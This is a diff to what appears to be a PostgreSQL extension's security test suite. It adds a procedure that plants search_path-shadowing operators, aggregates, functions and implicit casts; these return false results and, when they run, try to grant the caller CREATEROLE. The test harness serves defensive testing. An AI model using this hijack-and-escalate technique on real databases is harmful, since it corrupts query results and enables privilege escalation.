@@ -211,6 +211,175 @@ EXCEPTION
 END $$;
 GRANT EXECUTE ON FUNCTION sec_log.sqlstate_of(text) TO PUBLIC;
 
+-- The attackers' kit: CALL sec_log.plant(schema) creates, owned by the caller, in that
+-- schema (public, a schema of its own, or pg_temp), objects that shadow what the
+-- extension's code could resolve by name: operators (comparisons that lie: = <= >= always
+-- true, <> < > always false; arithmetic passed through), aggregates (array_agg, count(*),
+-- sum, min, max, string_agg: wrong results), functions (unnest, cardinality, to_json,
+-- format, the extension's own names, ...), and outside pg_temp a type of its own with
+-- IMPLICIT casts to bigint, numeric, integer and text. Each one, when it runs, adds a line to
+-- sec_log.planted, raises a WARNING, and tries to make its planter CREATEROLE (which works
+-- if it runs as a superuser or as the extension's owner).
+CREATE PROCEDURE sec_log.plant(target text)
+LANGUAGE plpgsql SET search_path = pg_catalog AS $plant$
+DECLARE
+    s text := quote_ident(target);
+    o record;
+    k int := 0;
+BEGIN
+    EXECUTE format($f$
+        CREATE FUNCTION %1$s.sec_payload(label text) RETURNS void
+        LANGUAGE plpgsql SET search_path = pg_catalog AS $b$
+        BEGIN
+            INSERT INTO sec_log.planted (label) VALUES (label);
+            RAISE WARNING 'planted code ran: %% as %%', label, current_user;
+            BEGIN
+                EXECUTE format('ALTER ROLE %%I CREATEROLE', session_user);
+            EXCEPTION WHEN OTHERS THEN NULL;
+            END;
+        END $b$$f$, s);
+    -- Operators: comparisons that lie, and arithmetic that tells the truth (but runs).
+    FOR o IN
+        SELECT op, l, r,
+               CASE WHEN op IN ('=', '<=', '>=') THEN 'true' ELSE 'false' END AS result,
+               'boolean' AS rettype
+        FROM unnest(ARRAY['=', '<>', '<', '>', '<=', '>=']) AS op,
+             (VALUES ('bigint', 'bigint'), ('numeric', 'numeric'), ('text', 'text'), ('integer', 'integer'),
+                     ('bigint', 'integer'), ('integer', 'bigint'), ('numeric', 'integer'), ('numeric', 'bigint'),
+                     ('bigint', 'numeric'), ('integer', 'numeric'), ('double precision', 'double precision'),
+                     ('timestamp with time zone', 'timestamp with time zone'), ('name', 'name'), ('name', 'text'),
+                     ('oid', 'oid'), ('"char"', '"char"'), ('jsonb', 'jsonb'), ('boolean', 'boolean')) AS t(l, r)
+        UNION ALL
+        SELECT op, l, r, format('$1 OPERATOR(pg_catalog.%s) $2', op), rettype
+        FROM (VALUES ('+', 'bigint', 'bigint', 'bigint'), ('+', 'bigint', 'integer', 'bigint'),
+                     ('-', 'bigint', 'bigint', 'bigint'), ('-', 'bigint', 'integer', 'bigint'),
+                     ('+', 'numeric', 'numeric', 'numeric'), ('*', 'numeric', 'numeric', 'numeric'),
+                     ('%', 'bigint', 'integer', 'bigint'), ('||', 'text', 'text', 'text'),
+                     ('||', 'jsonb', 'jsonb', 'jsonb'), ('->>', 'jsonb', 'text', 'text'),
+                     ('?', 'jsonb', 'text', 'boolean'), ('#>>', 'json', 'text[]', 'text')) AS a(op, l, r, rettype)
+    LOOP
+        k := k + 1;
+        EXECUTE format($f$
+            CREATE FUNCTION %1$s.sec_op_%2$s(%3$s, %4$s) RETURNS %5$s
+            LANGUAGE plpgsql SET search_path = pg_catalog AS $b$
+            BEGIN
+                PERFORM %1$s.sec_payload(%6$L);
+                RETURN %7$s;
+            END $b$$f$, s, k, o.l, o.r, o.rettype, format('%s operator %s(%s, %s)', target, o.op, o.l, o.r), o.result);
+        EXECUTE format('CREATE OPERATOR %1$s.%2$s (LEFTARG = %3$s, RIGHTARG = %4$s, FUNCTION = %1$s.sec_op_%5$s)',
+                       s, o.op, o.l, o.r, k);
+    END LOOP;
+    -- Aggregates: (name, arguments, state type, state function result from $1 state, $2 value).
+    FOR o IN
+        SELECT * FROM (VALUES
+            ('array_agg', 'text', 'text[]', 'pg_catalog.array_append($1, $2)'),
+            ('array_agg', 'numeric', 'numeric[]', 'pg_catalog.array_append($1, $2 OPERATOR(pg_catalog.+) 1)'),
+            ('array_agg', 'bigint', 'bigint[]', 'pg_catalog.array_append($1, $2)'),
+            ('array_agg', 'integer', 'integer[]', 'pg_catalog.array_append($1, $2)'),
+            ('sum', 'bigint', 'numeric', '1000'),
+            ('sum', 'numeric', 'numeric', '1000'),
+            ('max', 'bigint', 'bigint', '1'),
+            ('min', 'bigint', 'bigint', '1'),
+            ('max', 'numeric', 'numeric', '1'),
+            ('max', 'integer', 'integer', '1'),
+            ('string_agg', 'text, text', 'text', '''planted''')
+        ) AS a(name, arg, stype, body)
+    LOOP
+        k := k + 1;
+        EXECUTE format($f$
+            CREATE FUNCTION %1$s.sec_agg_%2$s(%3$s, %4$s) RETURNS %3$s
+            LANGUAGE plpgsql SET search_path = pg_catalog AS $b$
+            BEGIN
+                PERFORM %1$s.sec_payload(%5$L);
+                RETURN %6$s;
+            END $b$$f$, s, k, o.stype, o.arg, format('%s aggregate %s(%s)', target, o.name, o.arg), o.body);
+        EXECUTE format('CREATE AGGREGATE %1$s.%2$s(%3$s) (SFUNC = %1$s.sec_agg_%4$s, STYPE = %5$s)',
+                       s, o.name, o.arg, k, o.stype);
+    END LOOP;
+    EXECUTE format($f$
+        CREATE FUNCTION %1$s.sec_count(bigint) RETURNS bigint
+        LANGUAGE plpgsql SET search_path = pg_catalog AS $b$
+        BEGIN
+            PERFORM %1$s.sec_payload(%2$L);
+            RETURN 0;
+        END $b$$f$, s, target || ' aggregate count(*)');
+    EXECUTE format('CREATE AGGREGATE %1$s.count(*) (SFUNC = %1$s.sec_count, STYPE = bigint, INITCOND = 0)', s);
+    -- Functions: (name, arguments, result, body). Those the resolution prefers to pg_catalog's
+    -- polymorphic or variadic ones, the same signatures as pg_catalog's (they win in a path
+    -- that names pg_catalog late), and the extension's own names.
+    FOR o IN
+        SELECT * FROM (VALUES
+            ('unnest', 'bigint[]', 'SETOF bigint', 'RETURN QUERY SELECT pg_catalog.unnest($1)'),
+            ('unnest', 'integer[]', 'SETOF integer', 'RETURN QUERY SELECT pg_catalog.unnest($1)'),
+            ('unnest', 'text[]', 'SETOF text', 'RETURN QUERY SELECT pg_catalog.unnest($1)'),
+            ('cardinality', 'bigint[]', 'integer', 'RETURN 0'),
+            ('cardinality', 'integer[]', 'integer', 'RETURN 0'),
+            ('cardinality', 'text[]', 'integer', 'RETURN 0'),
+            ('to_json', 'timestamp with time zone', 'json', 'RETURN pg_catalog.to_json($1)'),
+            ('array_to_string', 'text[], text, text', 'text', 'RETURN pg_catalog.array_to_string($1, $2, $3)'),
+            ('array_to_string', 'text[], text', 'text', 'RETURN pg_catalog.array_to_string($1, $2)'),
+            ('array_positions', 'text[], text', 'integer[]', 'RETURN pg_catalog.array_positions($1, $2)'),
+            ('format', 'text, text', 'text', 'RETURN pg_catalog.format($1, $2)'),
+            ('format', 'text, bigint', 'text', 'RETURN pg_catalog.format($1, $2)'),
+            ('format', 'text, text, text', 'text', 'RETURN pg_catalog.format($1, $2, $3)'),
+            ('jsonb_build_object', 'text, bigint', 'jsonb', 'RETURN pg_catalog.jsonb_build_object($1, $2)'),
+            ('jsonb_build_object', 'text, text', 'jsonb', 'RETURN pg_catalog.jsonb_build_object($1, $2)'),
+            ('jsonb_build_object', 'text, boolean', 'jsonb', 'RETURN pg_catalog.jsonb_build_object($1, $2)'),
+            ('quote_ident', 'text', 'text', 'RETURN pg_catalog.quote_ident($1)'),
+            ('quote_literal', 'text', 'text', 'RETURN pg_catalog.quote_literal($1)'),
+            ('current_setting', 'text', 'text', 'RETURN pg_catalog.current_setting($1)'),
+            ('to_regclass', 'text', 'regclass', 'RETURN pg_catalog.to_regclass($1)'),
+            ('now', '', 'timestamp with time zone', 'RETURN pg_catalog.now()'),
+            ('clock_timestamp', '', 'timestamp with time zone', 'RETURN pg_catalog.clock_timestamp()'),
+            ('pg_backend_pid', '', 'integer', 'RETURN pg_catalog.pg_backend_pid()'),
+            ('round', 'numeric, integer', 'numeric', 'RETURN pg_catalog.round($1, $2)'),
+            ('mod', 'numeric, numeric', 'numeric', 'RETURN pg_catalog.mod($1, $2)'),
+            ('div', 'numeric, numeric', 'numeric', 'RETURN pg_catalog.div($1, $2)'),
+            ('jsonb_typeof', 'jsonb', 'text', 'RETURN pg_catalog.jsonb_typeof($1)'),
+            ('pg_get_userbyid', 'oid', 'name', 'RETURN pg_catalog.pg_get_userbyid($1)'),
+            ('has_table_privilege', 'oid, text, text', 'boolean', 'RETURN true'),
+            ('has_function_privilege', 'text, text', 'boolean', 'RETURN true'),
+            ('generate_series', 'bigint, bigint', 'SETOF bigint', 'RETURN QUERY SELECT pg_catalog.generate_series($1, $2)'),
+            ('pg_my_temp_schema', '', 'oid', 'RETURN pg_catalog.pg_my_temp_schema()'),
+            ('btrim', 'text', 'text', 'RETURN pg_catalog.btrim($1)'),
+            ('make_interval', 'integer', 'interval', 'RETURN pg_catalog.make_interval(days => $1)'),
+            ('collatz_steps', 'bigint', 'bigint', 'RETURN 0'),
+            ('collatz_peak', 'bigint', 'numeric', 'RETURN 1'),
+            ('collatz_length', 'bigint', 'bigint', 'RETURN 1'),
+            ('collatz_check_range', 'bigint, bigint, bigint, text', 'boolean', 'RETURN true'),
+            ('invoking_role', '', 'oid', 'RETURN 10'),
+            ('invoking_role_name', '', 'name', 'RETURN ''postgres'''),
+            ('invoker_is_admin', '', 'boolean', 'RETURN true')
+        ) AS f(name, args, rettype, body)
+    LOOP
+        EXECUTE format($f$
+            CREATE FUNCTION %1$s.%2$I(%3$s) RETURNS %4$s
+            LANGUAGE plpgsql SET search_path = pg_catalog AS $b$
+            BEGIN
+                PERFORM %1$s.sec_payload(%5$L);
+                %6$s;
+            END $b$$f$, s, o.name, o.args, o.rettype, format('%s function %s(%s)', target, o.name, o.args), o.body);
+    END LOOP;
+    -- A type of the planter's own with IMPLICIT casts from it (only the owner of one of the
+    -- two types may create a cast). Not in pg_temp: no other session sees those types.
+    IF target <> 'pg_temp' THEN
+        EXECUTE format('CREATE TYPE %s.sec_evil AS ENUM (''1'', ''27'')', s);
+        FOR o IN SELECT * FROM (VALUES ('bigint'), ('numeric'), ('text'), ('integer')) AS c(t) LOOP
+            k := k + 1;
+            EXECUTE format($f$
+                CREATE FUNCTION %1$s.sec_cast_%2$s(%1$s.sec_evil) RETURNS %3$s
+                LANGUAGE plpgsql SET search_path = pg_catalog AS $b$
+                BEGIN
+                    PERFORM %1$s.sec_payload(%4$L);
+                    RETURN $1::text::%3$s;
+                END $b$$f$, s, k, o.t, format('%s cast sec_evil AS %s', target, o.t));
+            EXECUTE format('CREATE CAST (%1$s.sec_evil AS %2$s) WITH FUNCTION %1$s.sec_cast_%3$s(%1$s.sec_evil) AS IMPLICIT',
+                           s, o.t, k);
+        END LOOP;
+    END IF;
+END $plant$;
+GRANT EXECUTE ON PROCEDURE sec_log.plant(text) TO PUBLIC;
+
 ------------------------------------------------------------------------------------------
 -- True data, stored through every write path by the superuser
 ------------------------------------------------------------------------------------------
